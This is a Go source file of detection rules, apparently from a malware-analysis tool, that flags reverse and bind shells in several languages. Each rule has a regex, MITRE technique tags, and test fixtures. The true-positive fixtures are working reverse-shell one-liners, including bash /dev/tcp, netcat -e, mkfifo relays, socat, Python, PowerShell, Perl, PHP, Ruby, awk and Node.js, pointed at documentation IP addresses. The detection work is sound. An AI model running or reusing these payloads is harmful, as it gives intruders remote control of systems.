package indicators

import "github.com/automaldesc/automaldesc/analysis/lang"

// shellIndicators: reverse and bind shells in every language.
func shellIndicators() []Indicator {
	return []Indicator{
		{
			ID:          "shell.dev_tcp",
			Title:       "Reverse shell through /dev/tcp",
			Description: "An interactive shell whose input and output are redirected to bash's /dev/tcp/host/port (bash -i >& /dev/tcp/... 0>&1).",
			Severity:    SeverityCritical, Techniques: techs("T1059.004", "T1095"), Tactic: "execution",
			Languages:      unixCmd,
			m:              rx(`(?:(?:ba|z|k)?sh\s+-i[^\n]*|exec\s+\d*<>|\d?>&\s*|<\s*)/dev/(?:tcp|udp)/[^\s/]+/\d+|/dev/(?:tcp|udp)/[^\s/]+/\d+[^\n]*(?:0>&1|<&\d|>&\s*\d)`, "/dev/tcp/", "/dev/udp/"),
			TruePositives:  fx(`§bash -i >& /dev/tcp/203.0.113.12/4444 0>&1`, "x=1\n§exec 5<>/dev/tcp/198.51.100.12/9001; cat <&5 | while read l; do $l 2>&5 >&5; done"),
			FalsePositives: fx(`# /dev/tcp is a bash feature`, `timeout 1 bash -c 'cat < /dev/null > /dev/tcp/127.0.0.1/22'`),
		},
		{
			ID:          "shell.netcat_exec",
			Title:       "Netcat shell (-e / -c)",
			Description: "nc/ncat/netcat with -e or -c binding a shell to a network connection (reverse or bind shell).",
			Severity:    SeverityCritical, Techniques: techs("T1059.004", "T1095"), Tactic: "execution",
			m:              rx(`\b(?:nc|ncat|netcat|nc\.traditional|nc\.exe)\b[^\n|;]*\s-[a-z]*[ec]\s*["']?(?:/bin/|/usr/bin/)?(?:ba|z|k|da)?sh\b|\b(?:nc|ncat|netcat|nc\.exe)\b[^\n|;]*\s-[a-z]*[ec]\s*["']?(?:cmd|powershell)(?:\.exe)?\b`, "nc ", "nc\t", "nc.exe", "nc.traditional", "ncat", "netcat"),
			TruePositives:  fx(`§nc -e /bin/sh 203.0.113.13 4444`, `§ncat.exe 198.51.100.13 443 -e cmd.exe`, `§nc -lvp 9001 -e /bin/bash`),
			FalsePositives: fx(`nc -zv 192.0.2.1 22`, `echo hi | nc -q1 192.0.2.1 7`),
		},
		{
			ID:          "shell.fifo_relay",
			Title:       "Named-pipe shell relay",
			Description: "mkfifo/mknod p feeding a shell whose output goes to nc, telnet or openssl s_client: a reverse shell without nc -e.",
			Severity:    SeverityCritical, Techniques: techs("T1059.004", "T1095"), Tactic: "execution",
			Languages:      unixCmd,
			m:              rx(`(?:mkfifo\s+\S+|mknod\s+\S+\s+p)[^\n]*\b(?:nc|ncat|netcat|telnet|openssl\s+s_client)\b|\b(?:nc|ncat|telnet)\s+\S+\s+\d+\s*\|\s*(?:/bin/)?(?:ba)?sh\s*\|\s*(?:nc|ncat|telnet)\b`, "mkfifo", "mknod", "telnet", "nc "),
			TruePositives:  fx(`rm /tmp/f; §mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.14 4444 > /tmp/f`, `§telnet 198.51.100.14 80 | /bin/bash | telnet 198.51.100.14 81`),
			FalsePositives: fx(`mkfifo /tmp/logpipe && tail -f /tmp/logpipe`),
		},
		{
			ID:          "shell.socat_exec",
			Title:       "socat shell",
			Description: "socat connecting a TCP/SSL stream to exec:/system: running a shell: reverse or bind shell.",
			Severity:    SeverityCritical, Techniques: techs("T1059.004", "T1095"), Tactic: "execution",
			Languages:      unixCmd,
			m:              rx(`\bsocat\b[^\n]*(?:exec|system):["']?[^\n]*(?:sh|bash|cmd|powershell)\b`, "socat").and(`tcp|ssl|openssl`, "tcp", "ssl"),
			TruePositives:  fx(`§socat tcp-connect:203.0.113.15:4444 exec:'bash -li',pty,stderr,setsid,sigint,sane`),
			FalsePositives: fx(`socat TCP-LISTEN:8080,fork TCP:127.0.0.1:80`),
		},
		{
			ID:          "shell.python_socket",
			Title:       "Python reverse shell",
			Description: "A socket connected out and its descriptor duplicated onto stdin/stdout (os.dup2) before spawning a shell, or a socket piped into subprocess: a Python reverse shell.",
			Severity:    SeverityCritical, Techniques: techs("T1059.006", "T1095"), Tactic: "execution",
			Languages: []lang.Language{lang.Python, lang.Bash},
			m: rxc(`os\.dup2\s*\(|stdin\s*=\s*\w+\.fileno\(\)|stdin\s*=\s*s\b`, "dup2", "fileno", "stdin").
				andc(`socket\.socket\s*\(|socket\(\s*socket\.AF_INET|\.connect\s*\(\s*\(`, "socket", ".connect").
				andc(`pty\.spawn|subprocess\.(?:call|Popen|run)\s*\(\s*\[?\s*["'](?:/bin/)?(?:ba|z)?sh|["']/bin/(?:ba|z)?sh["']|cmd\.exe|["']-i["']`, "pty.spawn", "/bin/", "cmd.exe", "-i"),
			TruePositives:  fx("import socket,os,pty\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(('203.0.113.16',4444))\n§os.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\npty.spawn('/bin/bash')"),
			FalsePositives: fx("import socket\ns = socket.socket()\ns.connect(('example.invalid', 80))\ns.send(b'GET / HTTP/1.0\\r\\n\\r\\n')"),
		},
		{
			ID:          "shell.python_pty",
			Title:       "PTY spawned from Python",
			Description: "pty.spawn(\"/bin/bash\"), the usual way to upgrade a captured shell to a TTY.",
			Severity:    SeverityMedium, Techniques: techs("T1059.006"), Tactic: "execution",
			Languages:      []lang.Language{lang.Python, lang.Bash},
			m:              rxc(`pty\.spawn\s*\(\s*["'](?:/bin/)?(?:ba|z)?sh["']`, "pty.spawn"),
			TruePositives:  fx(`python3 -c 'import pty; §pty.spawn("/bin/bash")'`),
			FalsePositives: fx(`pid, fd = pty.fork()`),
		},
		{
			ID:          "shell.ps_tcpclient",
			Title:       "PowerShell TCP reverse shell",
			Description: "A Net.Sockets.TCPClient stream read in a loop whose input is executed (iex/Invoke-Expression) and output written back.",
			Severity:    SeverityCritical, Techniques: techs("T1059.001", "T1095"), Tactic: "execution",
			Languages: winCmd,
			m: rx(`net\.sockets\.tcpclient|\[system\.net\.sockets\.tcpclient\]|tcpclient\s*\(`, "tcpclient").
				and(`getstream\s*\(`, "getstream").
				and(`\biex\b|invoke-expression|out-string|\.write\s*\(`, "iex", "invoke-expression", "out-string", ".write"),
			TruePositives:  fx("$c = New-Object System.§Net.Sockets.TCPClient('203.0.113.17',443);$s = $c.GetStream()\nwhile(($i = $s.Read($b, 0, $b.Length)) -ne 0){ $o = (iex $d 2>&1 | Out-String); $s.Write($x,0,$x.Length) }"),
			FalsePositives: fx("$c = New-Object Net.Sockets.TcpClient\n$c.Connect('192.0.2.1', 443)\n$c.Connected"),
		},
		{
			ID:          "shell.ps_tools",
			Title:       "PowerShell shell tooling",
			Description: "powercat, Invoke-PowerShellTcp, Invoke-ConPtyShell or similar offensive reverse-shell scripts.",
			Severity:    SeverityCritical, Techniques: techs("T1059.001", "T1095"), Tactic: "execution",
			m:              rx(`\bpowercat\s+-[cl]\b|invoke-powershelltcp(?:oneline)?|invoke-conptyshell|invoke-powershellicmp|invoke-poshrat`, "powercat", "invoke-powershelltcp", "invoke-conptyshell", "invoke-powershellicmp", "invoke-poshrat"),
			TruePositives:  fx(`§Invoke-PowerShellTcp -Reverse -IPAddress 203.0.113.18 -Port 4444`, `§powercat -c 198.51.100.18 -p 443 -e cmd`),
			FalsePositives: fx(`# powercat-like tools are blocked`),
		},
		{
			ID:          "shell.perl",
			Title:       "Perl reverse shell",
			Description: "perl with Socket/IO::Socket connecting out and exec'ing a shell.",
			Severity:    SeverityCritical, Techniques: techs("T1059", "T1095"), Tactic: "execution",
			Languages:      unixCmd,
			m:              rx(`\bperl\b[^\n]*(?:-e|-mio|-msocket)[^\n]*(?:use\s+socket|io::socket|socket\s*\()[^\n]*(?:exec|system)\s*\(?\s*["'](?:/bin/)?(?:ba)?sh`, "perl"),
			TruePositives:  fx(`§perl -e 'use Socket;$i="203.0.113.19";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};'`),
			FalsePositives: fx(`perl -e 'print "hello\n"'`),
		},
		{
			ID:          "shell.php",
			Title:       "PHP reverse shell",
			Description: "php -r with fsockopen and exec/proc_open/shell_exec/system of a shell.",
			Severity:    SeverityCritical, Techniques: techs("T1059", "T1095"), Tactic: "execution",
			Languages:      unixCmd,
			m:              rx(`fsockopen\s*\([^\n]*(?:exec|proc_open|shell_exec|system|passthru|popen)\s*\(`, "fsockopen"),
			TruePositives:  fx(`php -r '$sock=§fsockopen("203.0.113.20",4444);exec("/bin/sh -i <&3 >&3 2>&3");'`),
			FalsePositives: fx(`php -r 'echo phpversion();'`),
		},
		{
			ID:          "shell.ruby",
			Title:       "Ruby reverse shell",
			Description: "ruby -rsocket with TCPSocket and exec/spawn/IO.popen of a shell.",
			Severity:    SeverityCritical, Techniques: techs("T1059", "T1095"), Tactic: "execution",
			Languages:      unixCmd,
			m:              rx(`tcpsocket\.(?:open|new)\s*\([^\n]*(?:exec|spawn|io\.popen|syscall)`, "tcpsocket"),
			TruePositives:  fx(`ruby -rsocket -e 'f=§TCPSocket.open("203.0.113.21",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'`),
			FalsePositives: fx(`ruby -e 'puts RUBY_VERSION'`),
		},
		{
			ID:          "shell.awk_inet",
			Title:       "awk /inet reverse shell",
			Description: "gawk's /inet/tcp special file used to read commands and pipe them to a shell.",
			Severity:    SeverityCritical, Techniques: techs("T1059.004", "T1095"), Tactic: "execution",
			Languages:      unixCmd,
			m:              rx(`/inet/tcp/\d+/[^\s/]+/\d+`, "/inet/tcp/"),
			TruePositives:  fx(`awk 'BEGIN {s = "§/inet/tcp/0/203.0.113.22/4444"; while(42) { s |& getline c; print c |& s } }'`),
			FalsePositives: fx(`awk '{print $1}' access.log`),
		},
		{
			ID:          "shell.node",
			Title:       "Node.js reverse shell",
			Description: "net.Socket/net.connect piped into a spawned sh/cmd.exe: a Node.js reverse shell.",
			Severity:    SeverityCritical, Techniques: techs("T1059.007", "T1095"), Tactic: "execution",
			Languages: jsOnly,
			m: rxc(`(?:spawn|exec)\s*\(\s*["'](?:/bin/)?(?:ba)?sh["']|(?:spawn|exec)\s*\(\s*["']cmd(?:\.exe)?["']`, "spawn", "exec").
				andc(`new\s+net\.Socket\s*\(|net\.connect\s*\(|net\.createConnection\s*\(`, "net.socket", "net.connect", "net.createconnection").
				andc(`\.pipe\s*\(`, ".pipe"),
			TruePositives:  fx("var net = require('net'), cp = require('child_process'), sh = cp.§spawn('/bin/sh', []);\nvar c = new net.Socket();\nc.connect(4444, '203.0.113.23', function(){ c.pipe(sh.stdin); sh.stdout.pipe(c); });"),
			FalsePositives: fx("const c = net.connect(80, 'example.invalid');\nc.pipe(process.stdout);"),
		},
	}
}
